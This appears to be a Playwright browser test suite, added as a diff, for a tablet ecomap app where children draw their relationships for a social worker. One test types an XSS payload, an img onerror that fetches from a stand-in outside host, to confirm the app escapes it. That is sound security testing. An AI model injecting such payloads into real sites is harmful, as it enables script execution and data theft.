@@ -1,0 +1,261 @@
+"""A child draws on a tablet: the whole script of practice 6.1, by finger and by keyboard, and nothing of it is lost."""
+
+from __future__ import annotations
+
+import re
+import signal
+from collections.abc import Callable, Iterator
+from contextlib import ExitStack
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pytest
+from axe_playwright_python.sync_playwright import Axe
+from playwright.sync_api import Page, expect
+
+from graphmodel.access import Viewer
+from graphmodel.domain.drawn import Drawn
+from graphmodel.record import Recorder
+from graphmodel.sessions import canvas_of, session_to_draw_in
+from graphmodel.store import embedded
+from graphmodel.store.connection import Graph, GraphSettings
+from tests.browser.conftest import ELSEWHERE, SLY, family_with_sly_names, free_port
+from tests.browser.tablet import Tablet
+from tests.scenarios import TODAY
+from ui.serve import serving
+
+pytestmark = pytest.mark.browser
+
+SANA = Viewer("sana", "Sana", "social_worker", team="North", purpose="the tests")
+OUTSIDE = re.compile(r"^(?!http://127\.0\.0\.1:|ws://127\.0\.0\.1:|data:|blob:)")
+
+
+@dataclass
+class Place:
+    """A data folder with the app over it, which can be killed and started again at the same address."""
+
+    home: Path
+    port: int
+    running: ExitStack = field(default_factory=ExitStack)
+
+    @property
+    def address(self) -> str:
+        return f"http://127.0.0.1:{self.port}"
+
+    def start(self) -> None:
+        told = {"KINMAP_HOME": str(self.home), "KINMAP_AS_OF": TODAY.isoformat(), "KINMAP_SIGNED_IN_AS": "sana"}
+        self.process = self.running.enter_context(serving(self.home, self.port, told))
+
+    def kill(self) -> None:
+        self.process.send_signal(signal.SIGKILL)
+        self.running.close()
+
+    def drawn(self, child: str = "amira") -> dict[str, Drawn]:
+        """What is on record of the child's map, by name, read beside the app."""
+        with Graph.open(GraphSettings(self.home)) as graph:
+            session = session_to_draw_in(graph, SANA, child, TODAY, "60 60 60 60 60 60")
+            canvas = canvas_of(graph, SANA, session, TODAY)
+            return {canvas.network.person_by_id[one.person].called: one for one in canvas.drawn}
+
+
+@pytest.fixture(scope="module")
+def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
+    home = tmp_path_factory.mktemp("kinmap-map")
+    with Graph.open(GraphSettings(home)) as graph:
+        Recorder(graph).record(family_with_sly_names().records, by="tests", why="a family")
+    at = Place(home, free_port())
+    try:
+        at.start()
+        yield at
+    finally:
+        at.running.close()
+        embedded.stop(home)
+
+
+@pytest.fixture
+def tablet(page: Page, place: Place) -> Tablet:
+    page.set_viewport_size({"width": 1180, "height": 820})
+    return Tablet(page).open(place.address)
+
+
+def test_a_child_draws_twelve_people_in_few_taps_and_without_a_form(tablet: Tablet, place: Place) -> None:
+    tablet.map.locator("[data-focus=own_word]").fill("my Saturdays")
+    tablet.map.locator("[data-focus=own_word]").press("Enter")
+    for card, names in enumerate((["Ellie"], [], ["Zaynab", "Kofi"], ["Miss Okafor"], ["Rufus"], [], ["Grandad Ray"], [])):
+        for name in names:
+            tablet.name(name)
+        tablet.skip()
+        assert tablet.taps == card + 1
+    tablet.name("the lady with the red car")
+    places = {
+        "Nan": (0.45, 0.3, "strong"), "Idris": (0.52, 0.22, "strong"), "Dee": (0.25, 0.42, "thin"), "Ellie": (0.2, 0.58, "ordinary"),
+        "Zaynab": (0.7, 0.28, "strong"), "Kofi": (0.82, 0.3, "ordinary"), "Miss Okafor": (0.85, 0.5, "ordinary"),
+        "Rufus": (0.4, 0.68, "strong"), "Grandad Ray": (0.6, 0.12, "ordinary"), "the lady": (0.62, 0.88, "thin"),
+        "Pauline": (0.72, 0.75, "stressful"), "Biscuit": (0.32, 0.8, "strong"),
+    }  # fmt: skip
+    for name, (x, y, line) in places.items():
+        tablet.drag(name, (x, y))
+        tablet.choose(line)
+    expect(tablet.map.locator("svg.map [data-person]")).to_have_count(12)
+    tablet.tap(tablet.person("Idris"))
+    tablet.step("often")
+    tablet.choose("too_little")
+    tablet.step("words")
+    tablet.map.locator("textarea").fill("once a week like before")
+    tablet.tap(tablet.map.locator('[data-focus="keep words"]'))
+    tablet.tap(tablet.map.locator('[data-focus="read back"]'))
+    tablet.kept()
+    drawn = place.drawn()
+    assert tablet.taps <= 45
+    assert {"Nan", "Rufus", "Grandad Ray", "the lady with the red car"} <= drawn.keys()
+    assert (drawn["Idris"].enough, drawn["Idris"].words, drawn["Idris"].read_back) == ("too_little", "once a week like before", True)
+    assert drawn["Nan"].closeness == 4
+    assert drawn["the lady with the red car"].part == "helpers"
+
+
+def test_no_name_lies_over_another_or_over_somebody(tablet: Tablet) -> None:
+    boxes = tablet.page.evaluate(
+        """() => { const find = (root) => { for (const node of root.querySelectorAll('*')) { if (node.matches?.('svg.map')) return node;
+        if (node.shadowRoot) { const found = find(node.shadowRoot); if (found) return found; } } }; const map = find(document);
+        const box = (node) => ['x','y','w','h'].map((side) => Number(node.dataset[side]));
+        return { names: [...map.querySelectorAll('.name')].map(box), people: [...map.querySelectorAll('[data-person]')].map(box) }; }"""
+    )
+    meets = [
+        (a, b)
+        for at, a in enumerate(boxes["names"])
+        for b in [*boxes["names"][at + 1 :], *boxes["people"]]
+        if a[0] < b[0] + b[2] and b[0] < a[0] + a[2] and a[1] < b[1] + b[3] and b[1] < a[1] + a[3]
+    ]
+    assert len(boxes["names"]) >= 12
+    assert meets == []
+
+
+def test_the_map_is_where_it_was_after_the_page_is_loaded_again(tablet: Tablet, place: Place) -> None:
+    before = _where(tablet)
+    tablet.open(place.address)
+    assert _where(tablet) == before
+
+
+def _where(tablet: Tablet) -> list[str]:
+    return [str(text) for text in tablet.map.locator("svg.map [data-person]").evaluate_all(
+        "(all) => all.map((one) => `${one.dataset.person} ${one.dataset.x} ${one.dataset.y}`).sort()"
+    )]  # fmt: skip
+
+
+def test_everything_can_be_done_with_keys(tablet: Tablet, place: Place) -> None:
+    keys = tablet.page.keyboard
+    tablet.card("Joe").focus()
+    keys.press("Enter")
+    for key in ("ArrowUp", "ArrowUp", "ArrowLeft"):
+        keys.press(key)
+    keys.press("Enter")
+    expect(tablet.person("Joe")).to_have_count(1)
+    tablet.person("Joe").focus()
+    keys.press("l")
+    keys.press("g")
+    tablet.kept()
+    joe = place.drawn()["Joe"]
+    assert (joe.placed, joe.line, joe.support) == (True, "strong", "gives_me")
+    tablet.map.locator("[data-focus=undo]").focus()
+    keys.press("Enter")
+    tablet.kept()
+    assert place.drawn()["Joe"].support is None
+    tablet.map.locator("[data-focus=list]").focus()
+    keys.press("Enter")
+    tablet.map.get_by_label("Joe: Where").select_option("3")
+    tablet.kept()
+    assert place.drawn()["Joe"].closeness == 3
+
+
+def test_names_that_are_markup_are_shown_as_typed_on_the_map_and_fetch_nothing(page: Page, place: Place, asked_for: list[str]) -> None:
+    tablet = Tablet(page).open(place.address)
+    evil = f"<img src=x onerror=\"fetch('http://{ELSEWHERE}/q')\">"
+    tablet.skip()
+    tablet.name(evil)
+    tablet.drag("<img", (0.75, 0.85))
+    tablet.step("words")
+    tablet.map.locator("textarea").fill(SLY)
+    tablet.map.locator('[data-focus="keep words"]').click()
+    tablet.kept()
+    tablet.map.locator("[data-focus=list]").click()
+    expect(tablet.map.locator("tbody th", has_text="<img")).to_have_count(1)
+    assert tablet.map.locator("img").count() == 0
+    assert [address for address in asked_for if OUTSIDE.match(address)] == []
+    tablet.map.locator("[data-focus=list]").click()
+    for _ in range(6):
+        if tablet.map.locator("[data-focus=undo]").is_disabled():
+            break
+        tablet.map.locator("[data-focus=undo]").click()
+    tablet.kept()
+    assert not any("<img" in name for name in place.drawn())
+
+
+def test_nothing_is_lost_when_the_app_is_killed_in_the_middle(tablet: Tablet, place: Place) -> None:
+    place.kill()
+    tablet.drag("Nan", (0.55, 0.1))
+    tablet.tap(tablet.person("Nan"))
+    tablet.choose("mixed")
+    assert tablet.waiting > 0
+    expect(tablet.map.get_by_text("The wifi is gone.")).to_be_visible(timeout=30_000)
+    place.start()
+    tablet.kept(120)
+    nan = place.drawn()["Nan"]
+    assert (nan.line, nan.closeness) == ("mixed", 1)
+
+
+def test_nothing_is_lost_when_the_graph_is_killed_in_the_middle(tablet: Tablet, place: Place) -> None:
+    _kill_graph(place.home)
+    tablet.drag("Dee", (0.3, 0.3))
+    tablet.kept(120)
+    assert place.drawn()["Dee"].placed
+
+
+def _kill_graph(home: Path) -> None:
+    import json
+    import os
+
+    notes = [json.loads(path.read_text()) for path in (home / "graph").glob("*.json")]
+    pids = [note["pid"] for note in notes if "pid" in note]
+    assert pids
+    os.kill(pids[0], signal.SIGKILL)
+
+
+def test_two_tablets_on_one_map_come_to_the_same(tablet: Tablet, place: Place, browser: object) -> None:
+    other = Tablet(browser.new_page(viewport={"width": 1180, "height": 820})).open(place.address)  # type: ignore[attr-defined]
+    try:
+        tablet.drag("Finn", (0.3, 0.6))
+        other.drag("Zaynab", (0.75, 0.35))
+        tablet.kept()
+        other.kept()
+        expect(other.person("Finn")).to_have_count(1, timeout=30_000)
+        other.page.wait_for_timeout(6_000)
+        assert _where(tablet) == _where(other)
+    finally:
+        other.page.close()
+
+
+def test_the_child_s_screen_has_no_serious_finding_of_axe_light_dark_and_narrow(tablet: Tablet) -> None:
+    for width, height in ((1180, 820), (590, 410), (320, 640)):
+        tablet.page.set_viewport_size({"width": width, "height": height})
+        tablet.page.wait_for_timeout(300)
+        found = Axe().run(tablet.page, context=".map-page" if False else None)
+        serious = [one["id"] for one in found.response["violations"] if one["impact"] in ("serious", "critical")]
+        assert serious == [], (width, [(one["id"], one["nodes"][0]["html"][:200]) for one in found.response["violations"]])
+
+
+def test_no_other_child_and_no_word_of_our_trade_is_on_the_child_s_screen(tablet: Tablet) -> None:
+    words = tablet.page.locator("body").inner_text() + tablet.map.inner_text()
+    for unsaid in ("Leo", "Noor", "risk", "placement", "contact centre", "Team", "My children", "not assessed"):
+        assert unsaid not in words
+
+
+def test_finishing_shows_the_child_a_picture_and_the_worker_what_is_owed(tablet: Tablet, place: Place) -> None:
+    page = tablet.page
+    tablet.tap(tablet.map.locator("[data-focus=finish]"))
+    expect(page.get_by_role("heading", name="Thank you, Ami")).to_be_visible(timeout=60_000)
+    page.get_by_role("button", name="For your social worker").click()
+    expect(page.get_by_text("To answer")).to_be_visible(timeout=60_000)
+    expect(page.get_by_text("Idris").first).to_be_visible()
+    page.get_by_role("button", name="Save the note and send the proposals").click()
+    expect(page.get_by_text("Saved.", exact=False)).to_be_visible(timeout=60_000)
+    assert place.drawn() == {}  # the next map is a new one
